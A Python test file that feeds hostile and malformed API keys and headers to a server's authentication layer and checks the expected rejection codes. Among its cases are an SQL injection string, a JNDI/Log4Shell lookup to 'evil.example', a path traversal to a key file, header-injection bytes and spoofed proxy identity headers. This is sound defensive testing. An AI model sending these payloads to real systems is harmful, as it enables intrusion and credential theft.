"""Hostile keys: none, others', ended ones, several at once, in the wrong place, and what was never a key.

Knows a key's form and the headers that hold one; the server that they knock at has the keys of KEYS, whose texts are
known to all, so that a case stays plain data.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec

from server.access.keys_file import change_keys
from server.access.records import Kept, KeyLimits, KeyRecord
from tests.hostile.case import EDITS, GENERATIONS, INVALID, JSON, VARIATIONS, Case, head

GOOD = b'{"prompt": "a red circle", "response_format": "b64_json"}'
UNKNOWN, FORBIDDEN = "invalid_api_key", "insufficient_permissions"


def text_of(number: int, letter: str = "A") -> str:
    return f"sl-{number:012x}-{letter * 43}"


# What each may do, by its number. The later texts of a number work no more, or never did.
DRAWS, READS, SCRAPES, RULES, FEW, SMALL, HERE = map(text_of, range(1, 8))
REVOKED, EXPIRED, ROTATED = (text_of(number) for number in (8, 9, 10))
KEYS: dict[str, dict[str, Any]] = {
    DRAWS: {"scopes": ("generate",)},
    READS: {"scopes": ("usage",)},
    SCRAPES: {"scopes": ("metrics",)},
    RULES: {"scopes": ("admin",)},
    FEW: {"scopes": ("admin", "generate"), "models": ("another",)},
    SMALL: {"scopes": ("generate",), "limits": KeyLimits(images_per_minute=1, concurrent_images=1)},
    HERE: {"scopes": ("generate",), "local_only": True},
    REVOKED: {"scopes": ("admin",), "revoked_unix_seconds": 1_700_000_001},
    EXPIRED: {"scopes": ("admin",), "expires_unix_seconds": 1_700_000_001},
    ROTATED: {"scopes": ("admin",)},
}
BORN, OVER = 1_700_000_000, 1_700_000_001


def write_keys(path: Path) -> None:
    """As the commands would have made them long ago."""

    def record(place: int, text: str, what: dict[str, Any], hash_of: Callable[[bytes], str]) -> KeyRecord:
        until = OVER if text in (ROTATED,) else None
        kept = () if text == REVOKED else (Kept(hash_of(text.encode()), until),)
        key_id = text.split("-")[1]
        return KeyRecord(id=key_id, name=f"key {place}", created_unix_seconds=BORN, kept=kept, **what)

    def change(keys: Any) -> Any:
        records = tuple(record(place, *item, keys.hash_of) for place, item in enumerate(KEYS.items()))
        return msgspec.structs.replace(keys.file, keys=records), None

    assert time.time() > OVER
    change_keys(path, change, may_begin=True)


def bearer(key: str) -> tuple[str, str]:
    return "Authorization", f"Bearer {key}"


def azure(key: str) -> tuple[str, str]:
    return "api-key", key


# Where each key would do, were it sent as it must be.
STRANGERS: dict[str, tuple[tuple[str, str], ...]] = {
    "none": (),
    "a revoked one": (bearer(REVOKED),),
    "an expired one": (bearer(EXPIRED),),
    "one that was rotated": (bearer(ROTATED),),
    "a revoked one as Azure sends it": (azure(REVOKED),),
    "another's of the same form": (bearer(text_of(1, "B")),),
    "an id that nobody has": (bearer(text_of(99)),),
    "one letter changed": (bearer(RULES[:-1] + "B"),),
    "cut": (bearer(RULES[:-1]),),
    "longer by one": (bearer(RULES + "A"),),
    "its id alone": (bearer(RULES[:15]),),
    "in capitals": (bearer(RULES.upper()),),
    "its id in capitals": (bearer(RULES.replace("sl-", "SL-")),),
    "OpenAI's": (bearer("sk-proj-" + "A" * 48),),
    "a word": (bearer("none"),),
    "null": (bearer("null"),),
    "quoted": (bearer(f'"{RULES}"'),),
    "twice with a comma": (bearer(f"{RULES},{RULES}"),),
    "with a word behind it": (bearer(f"{RULES} admin"),),
    "with a semicolon": (bearer(f"{RULES};"),),
    "in base64": (bearer("c2wtMDAwMDAwMDAwMDA0LUFBQQ=="),),
    "in percents": (bearer(RULES.replace("-", "%2D")),),
    "in full-width letters": (bearer("\uff53\uff4c-".encode().decode("latin-1") + RULES[3:]),),
    "bytes beyond ASCII": (bearer("\xff\xfe\x80"),),
    "a letter beyond ASCII in it": (bearer(RULES[:-1] + "\xe9"),),
    "a blank that is none": (("Authorization", f"Bearer\xa0{RULES}"),),
    "60,000 letters": (bearer("k" * 60_000),),
    "60,000 letters as Azure sends them": (azure("k" * 60_000),),
    "itself a thousand times": (bearer(RULES * 1000),),
    "a token for the web": (bearer("eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9."),),
    "an SQL expression": (bearer("'/**/OR/**/1=1--"),),
    "a template": (bearer("${jndi:ldap://evil.example/a}"),),
    "a path": (bearer("../../keys.json"),),
    "the scheme alone": (("Authorization", "Bearer"),),
    "the scheme and blanks": (("Authorization", "Bearer    "),),
    "nothing": (("Authorization", ""),),
    "nothing as Azure sends it": (azure(""),),
    "without a scheme": (("Authorization", RULES),),
    "Basic": (("Authorization", "Basic c2w6c2w="),),
    "Basic with the key": (("Authorization", f"Basic {RULES}"),),
    "Digest": (("Authorization", f'Digest username="{RULES}"'),),
    "Token": (("Authorization", f"Token {RULES}"),),
    "Negotiate": (("Authorization", f"Negotiate {RULES}"),),
    "AWS4-HMAC-SHA256": (("Authorization", "AWS4-HMAC-SHA256 Credential=x/20261101/r/s/aws4_request"),),
    "Bearer with a colon": (("Authorization", f"Bearer: {RULES}"),),
    "Bearer with an equals sign": (("Authorization", f"Bearer={RULES}"),),
    "Bearer with a tab": (("Authorization", f"Bearer\t{RULES}"),),
    "Bearer twice": (("Authorization", f"Bearer Bearer {RULES}"),),
    "as Azure sends it, with a scheme": (azure(f"Bearer {RULES}"),),
    "twice the same": (bearer(RULES), bearer(RULES)),
    "two that differ": (bearer(RULES), bearer(DRAWS)),
    "a good one and Basic": (bearer(RULES), ("Authorization", "Basic c2w6c2w=")),
    "twice as Azure sends it": (azure(RULES), azure(RULES)),
    "both headers, and they differ": (bearer(RULES), azure(DRAWS)),
    "both headers, one empty": (bearer(RULES), azure("")),
    "both headers, one of them wrong": (azure(RULES), bearer("none")),
    "both headers, one of another scheme": (azure(RULES), ("Authorization", f"Basic {RULES}")),
    "both headers, a revoked one beside a good one": (azure(RULES), bearer(REVOKED)),
    "in x-api-key": (("x-api-key", RULES),),
    "in a cookie": (("Cookie", f"api-key={RULES}; authorization=Bearer {RULES}"),),
    "for a proxy": (("Proxy-Authorization", f"Bearer {RULES}"),),
    "as a caller's address": (("X-Forwarded-For", "127.0.0.1"), ("Forwarded", "for=127.0.0.1")),
    "by a proxy's word": (
        ("X-Forwarded-User", "admin"),
        ("X-Remote-User", "admin"),
        ("X-Original-URL", "/health/live"),
    ),
    "under another's name": (("OpenAI-Organization", RULES), ("OpenAI-Project", RULES)),
}
NO_HTTP = {
    "NUL in it": ("Authorization", f"Bearer {RULES[:9]}\0{RULES[9:]}"),
    "a carriage return in it": ("Authorization", f"Bearer {RULES[:9]}\r{RULES[9:]}"),
    "a line's end in it": ("Authorization", f"Bearer {RULES[:9]}\n{RULES[9:]}"),
    "NUL as Azure sends it": ("api-key", f"\0{RULES}"),
    "a blank before the colon": ("Authorization ", f"Bearer {RULES}"),
}
ODD_AND_RIGHT: dict[str, tuple[tuple[str, str], ...]] = {
    "a scheme in small letters": (("authorization", f"bearer {RULES}"),),
    "a scheme in capitals": (("AUTHORIZATION", f"BEARER {RULES}"),),
    "three blanks": (("Authorization", f"Bearer   {RULES}"),),
    "blanks around it": (("Authorization", f"   Bearer {RULES}   "),),
    "as Azure sends it": (azure(RULES),),
    "both headers, and they agree": (bearer(RULES), azure(RULES)),
    "beside a cookie and a proxy's": (bearer(RULES), ("Cookie", "api-key=x"), ("Proxy-Authorization", "Basic x")),
}
# Method, path, and the keys that may not; the path is one that answers without a worker.
CLOSED: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("POST", GENERATIONS, (READS, SCRAPES)),
    ("POST", EDITS, (READS, SCRAPES)),
    ("POST", "/openai/deployments/demo/images/variations", (READS, SCRAPES)),
    ("GET", "/v1/usage", (DRAWS, SCRAPES, HERE)),
    ("GET", "/v1/usage/summary", (DRAWS, SCRAPES)),
    ("GET", "/v1/organization/usage/images", (DRAWS, SCRAPES)),
    ("GET", "/v1/organization/costs", (DRAWS, SCRAPES)),
    ("GET", "/metrics", (DRAWS, READS)),
    ("POST", "/admin/reload", (DRAWS, READS, SCRAPES)),
    ("POST", "/admin/models/demo/unload", (DRAWS, READS, SCRAPES)),
    ("POST", "/admin/models/no-such/load", (DRAWS,)),
)
NAMES = {
    DRAWS: "generate",
    READS: "usage",
    SCRAPES: "metrics",
    HERE: "a key that stays here",
    FEW: "few",
    SMALL: "small",
}


def cases() -> Iterator[Case]:
    yield from _of_strangers()
    yield from _of_scopes()
    yield from _of_what_a_key_may_have()


def sent(method: str, path: str, *headers: tuple[str, str], body: bytes = b"") -> bytes:
    """With these headers, several of one name too."""
    usual: dict[str, str | bytes] = {"Content-Length": str(len(body)), **({"Content-Type": JSON} if body else {})}
    lines = b"".join(f"{name}: {value}\r\n".encode("latin-1") for name, value in headers)
    return head(method, path, usual).removesuffix(b"\r\n") + lines + b"\r\n" + body


def _case(
    name: str, content: bytes, status: int, code: str | None = None, param: str | None = None, pictures: int = 0
) -> Case:
    return Case("keys", name, content, status, code, param, pictures, is_keyed=True)


def _of_strangers() -> Iterator[Case]:
    for name, headers in STRANGERS.items():
        yield _case(name, sent("POST", GENERATIONS, *headers, body=GOOD), 401, UNKNOWN)
        yield _case(f"{name}, for a list", sent("GET", "/v1/models", *headers), 401, UNKNOWN)
        yield _case(f"{name}, for a reload", sent("POST", "/admin/reload", *headers), 401, UNKNOWN)
    for name, header in NO_HTTP.items():
        yield _case(name, sent("POST", GENERATIONS, header, body=GOOD), 400, "invalid_http")
    for name, headers in ODD_AND_RIGHT.items():
        yield _case(f"{name}, which is right", sent("POST", GENERATIONS, *headers, body=GOOD), 200, pictures=1)
    for place in ("api_key", "api-key", "key", "authorization", "access_token"):
        path = f"{GENERATIONS}?{place}={RULES}"
        yield _case(f"in the URL as {place}", sent("POST", path, body=GOOD), 401, UNKNOWN)
    inside = b'{"prompt": "a", "api_key": "%b"}' % RULES.encode()
    yield _case("in the body", sent("POST", GENERATIONS, body=inside), 401, UNKNOWN)
    for method, path in (("POST", VARIATIONS), ("GET", "/v1/usage"), ("GET", "/metrics"), ("GET", "/v1/models/demo")):
        yield _case(f"none, for {path}", sent(method, path), 401, UNKNOWN)
    for path in ("/nope", "/v1", "/admin"):
        yield _case(f"none, for {path}, which is not there", sent("GET", path), 404, "unknown_url")
    declared = head("POST", GENERATIONS, {"Content-Type": JSON, "Content-Length": "10000000000"})
    yield _case("none, and 10 GB declared", declared, 401, UNKNOWN)
    yield _case("none, and no JSON", sent("POST", GENERATIONS, body=b"{"), 401, UNKNOWN)
    yield _case(
        "none, and no deadline", sent("POST", GENERATIONS, ("x-safelight-timeout", "x"), body=GOOD), 401, UNKNOWN
    )


def _of_scopes() -> Iterator[Case]:
    for method, path, keys in CLOSED:
        for key in keys:
            body = GOOD if "/images/" in path and method == "POST" else b""
            yield _case(f"{NAMES[key]} for {method} {path}", sent(method, path, bearer(key), body=body), 403, FORBIDDEN)
    yield _case("a bad body beyond its scope", sent("POST", GENERATIONS, bearer(READS), body=b"{"), 403, FORBIDDEN)
    yield _case("a bad question beyond its scope", sent("GET", "/v1/usage?limit=x", bearer(DRAWS)), 403, FORBIDDEN)
    foreign = sent("GET", f"/v1/usage?api_key_ids={'0' * 12}", bearer(READS))
    yield _case("another's usage", foreign, 403, FORBIDDEN, "api_key_ids")


def _of_what_a_key_may_have() -> Iterator[Case]:
    for model in ("demo", "dall-e-2"):
        asked = b'{"prompt": "a", "model": "%b"}' % model.encode()
        beyond = sent("POST", GENERATIONS, bearer(FEW), body=asked)
        yield _case(f"a model that is not its own: {model}", beyond, 403, "model_not_found", "model")
    unnamed = sent("POST", GENERATIONS, bearer(FEW), body=GOOD)
    yield _case("the default model, which is not its own", unnamed, 403, "model_not_found", "model")
    unloads = sent("POST", "/admin/models/demo/unload", bearer(FEW))
    yield _case("an admin unloads a model that is not its own", unloads, 403, "model_not_found", "model")
    two = sent("POST", GENERATIONS, bearer(SMALL), body=b'{"prompt": "a", "n": 2}')
    yield _case("more pictures than it may ever have", two, 400, INVALID, "n")
    away = sent("POST", GENERATIONS, bearer(HERE), body=b'{"prompt": "a", "provider": "openai"}')
    yield _case("a provider, with a key that stays here", away, 400, INVALID, "provider")
